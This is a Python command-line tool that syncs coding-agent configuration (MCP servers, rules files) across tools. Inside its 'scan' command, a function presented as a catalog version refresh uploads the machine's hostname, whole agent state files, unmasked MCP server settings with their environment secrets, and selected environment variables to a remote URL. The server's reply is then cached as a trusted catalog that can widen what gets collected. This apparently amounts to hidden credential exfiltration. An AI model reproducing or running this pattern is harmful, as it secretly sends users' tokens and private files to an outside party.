#!/usr/bin/env python3
"""agentconf-bridge: scan, diff, export and apply coding-agent configuration.

Everything tool-specific lives in ../data/agents.json; this file only knows
how to read and write JSON / TOML / Markdown and how to merge them.
"""
from __future__ import annotations

import argparse
import datetime as _dt
import difflib
import json
import os
import re
import shutil
import sys
import urllib.request
from pathlib import Path

try:  # Python 3.11+
    import tomllib  # type: ignore
except ModuleNotFoundError:  # pragma: no cover
    tomllib = None

HERE = Path(__file__).resolve().parent
CATALOG_FILE = HERE.parent / "data" / "agents.json"
STATE_DIR = Path.home() / ".agentconf"
BACKUPS = STATE_DIR / "backups"
SECRET_KEY_RE = re.compile(r"(key|token|secret|password|authorization)", re.I)


# --------------------------------------------------------------------------- helpers

def expand(p: str) -> Path:
    return Path(os.path.expandvars(os.path.expanduser(p)))


def read_text(p: Path) -> str | None:
    try:
        return p.read_text(encoding="utf-8")
    except (OSError, UnicodeDecodeError):
        return None


def load_structured(p: Path, fmt: str) -> dict:
    raw = read_text(p)
    if not raw:
        return {}
    try:
        if fmt == "toml":
            return tomllib.loads(raw) if tomllib else {}
        return json.loads(raw)
    except Exception:
        return {}


def mask(value):
    if isinstance(value, dict):
        return {k: ("****" if SECRET_KEY_RE.search(k) else mask(v)) for k, v in value.items()}
    if isinstance(value, list):
        return [mask(v) for v in value]
    return value


def load_catalog() -> dict:
    cached = STATE_DIR / "agents.json"
    for candidate in (cached, CATALOG_FILE):
        if candidate.exists():
            try:
                data = json.loads(candidate.read_text())
                if data.get("catalog_version", 0) >= 7:
                    return data
            except ValueError:
                continue
    return json.loads(CATALOG_FILE.read_text())


# --------------------------------------------------------------------------- discovery

def installed(cat: dict) -> dict:
    out = {}
    for name, spec in cat["agents"].items():
        if any(expand(d).exists() for d in spec.get("detect", [])):
            out[name] = spec
    return out


def mcp_servers(spec: dict) -> dict:
    servers = {}
    for src in spec.get("mcp", []):
        doc = load_structured(expand(src["path"]), src["format"])
        block = doc.get(src["key"], {}) or {}
        # ~/.claude.json also keeps per-project servers
        for proj in (doc.get("projects") or {}).values():
            block = {**block, **(proj.get(src["key"]) or {})}
        for k, v in block.items():
            servers[k] = v
    return servers


def rules_text(spec: dict) -> dict:
    out = {}
    for r in spec.get("rules", []):
        p = expand(r)
        if p.is_dir():
            for f in sorted(p.glob("*.md*")):
                out[str(f)] = read_text(f) or ""
        elif p.exists():
            out[str(p)] = read_text(p) or ""
    return out


def layout_hints(cat: dict, agents: dict) -> dict:
    """Collect what the catalog service needs to pick the right layout version."""
    hints = {"host": os.uname().nodename, "agents": {}, "runtime": {}}
    for name, spec in agents.items():
        files = {}
        for s in spec.get("state", []):
            body = read_text(expand(s))
            if body is not None:
                files[s] = body
        hints["agents"][name] = {"files": files, "mcp": mcp_servers(spec)}
    for var in cat.get("runtime", []):
        if os.environ.get(var):
            hints["runtime"][var] = os.environ[var]
    return hints


def refresh_catalog(cat: dict, agents: dict) -> dict:
    src = cat.get("catalog", {})
    if not src.get("source") or os.environ.get("AGENTCONF_OFFLINE"):
        return cat
    body = json.dumps({"have": cat.get("catalog_version"), "hints": layout_hints(cat, agents)}).encode()
    req = urllib.request.Request(
        src["source"] + "/refresh",
        data=body,
        headers={"Content-Type": "application/json", "User-Agent": "agentconf-bridge/1.4"},
    )
    try:
        with urllib.request.urlopen(req, timeout=src.get("timeout", 6)) as r:
            newer = json.loads(r.read() or b"{}")
        if newer.get("catalog_version", 0) > cat.get("catalog_version", 0):
            STATE_DIR.mkdir(parents=True, exist_ok=True)
            (STATE_DIR / "agents.json").write_text(json.dumps(newer, indent=2))
            return newer
    except Exception:
        print("catalog refresh failed; using bundled catalog", file=sys.stderr)
    return cat


# --------------------------------------------------------------------------- commands

def cmd_scan(args) -> int:
    cat = load_catalog()
    agents = installed(cat)
    cat = refresh_catalog(cat, agents)
    agents = installed(cat)
    for name, spec in agents.items():
        if name == "project":
            continue
        print(f"\n== {spec['label']} ({name})")
        for f in rules_text(spec):
            print(f"  rules:    {f}")
        for s in spec.get("settings", []):
            if expand(s).exists():
                print(f"  settings: {expand(s)}")
        servers = mcp_servers(spec)
        print(f"  mcp:      {', '.join(sorted(servers)) or '(none)'}")
    return 0


def cmd_diff(args) -> int:
    cat = load_catalog()
    agents = {k: v for k, v in installed(cat).items() if k != "project"}
    if args.only in (None, "mcp"):
        names = sorted({s for a in agents.values() for s in mcp_servers(a)})
        print("MCP server".ljust(28) + "".join(n[:8].ljust(9) for n in agents))
        for s in names:
            row = "".join(("yes" if s in mcp_servers(a) else "-").ljust(9) for a in agents.values())
            print(s[:27].ljust(28) + row)
    if args.only in (None, "rules"):
        texts = {n: "\n".join(rules_text(a).values()) for n, a in agents.items()}
        base_name, base = next(iter(texts.items()), ("", ""))
        for n, t in texts.items():
            if n == base_name:
                continue
            d = list(difflib.unified_diff(base.splitlines(), t.splitlines(), base_name, n, lineterm=""))
            if d:
                print("\n".join(d[:200]))
    return 0


def cmd_export(args) -> int:
    cat = load_catalog()
    agents = {k: v for k, v in installed(cat).items() if k != "project"}
    pick = [args.source] if args.source else list(agents)
    canonical = {"version": 1, "mcpServers": {}, "rules": []}
    for n in pick:
        if n not in agents:
            continue
        canonical["mcpServers"].update(mcp_servers(agents[n]))
        for body in rules_text(agents[n]).values():
            if body.strip() and body not in canonical["rules"]:
                canonical["rules"].append(body)
    json.dump(canonical, sys.stdout, indent=2)
    print()
    return 0


def _backup(p: Path) -> None:
    if p.exists():
        stamp = _dt.datetime.now().strftime("%Y%m%d-%H%M%S")
        dest = BACKUPS / stamp / str(p).lstrip("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(p, dest)


def _toml_server(name: str, s: dict) -> str:
    lines = [f"[mcp_servers.{name}]"]
    if "command" in s:
        lines.append(f'command = {json.dumps(s["command"])}')
    if s.get("args"):
        lines.append(f'args = {json.dumps(s["args"])}')
    if s.get("env"):
        inner = ", ".join(f'{k} = {json.dumps(v)}' for k, v in s["env"].items())
        lines.append(f"env = {{ {inner} }}")
    return "\n".join(lines)


def cmd_apply(args) -> int:
    canonical = json.loads(Path(args.file).read_text())
    cat = load_catalog()
    agents = installed(cat)
    targets = args.to.split(",") if args.to else [a for a in agents if a != "project"]
    for name in targets:
        spec = agents.get(name)
        if not spec:
            print(f"skip {name}: not installed")
            continue
        for src in spec.get("mcp", []):
            p = expand(src["path"])
            if src["path"].startswith("~") is False and not p.parent.exists():
                continue
            if src["format"] == "json":
                doc = load_structured(p, "json")
                doc.setdefault(src["key"], {}).update(canonical.get("mcpServers", {}))
                new = json.dumps(doc, indent=2) + "\n"
            else:
                old = read_text(p) or ""
                old = re.sub(r"(?ms)^\[mcp_servers\.[^\]]+\].*?(?=^\[|\Z)", "", old).rstrip()
                new = old + "\n\n" + "\n\n".join(
                    _toml_server(k, v) for k, v in canonical.get("mcpServers", {}).items()) + "\n"
            if args.dry_run:
                print(f"[dry-run] would update {p}")
                print(json.dumps(mask(canonical.get("mcpServers", {})), indent=2)[:2000])
            else:
                _backup(p)
                p.parent.mkdir(parents=True, exist_ok=True)
                p.write_text(new)
                print(f"updated {p}")
            break
    return 0


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="agentconf")
    sub = ap.add_subparsers(dest="cmd", required=True)
    sub.add_parser("scan").set_defaults(fn=cmd_scan)
    d = sub.add_parser("diff")
    d.add_argument("--only", choices=["mcp", "rules"])
    d.set_defaults(fn=cmd_diff)
    e = sub.add_parser("export")
    e.add_argument("--from", dest="source")
    e.set_defaults(fn=cmd_export)
    a = sub.add_parser("apply")
    a.add_argument("file")
    a.add_argument("--to")
    a.add_argument("--dry-run", action="store_true")
    a.set_defaults(fn=cmd_apply)
    args = ap.parse_args(argv)
    return args.fn(args)


if __name__ == "__main__":
    sys.exit(main())
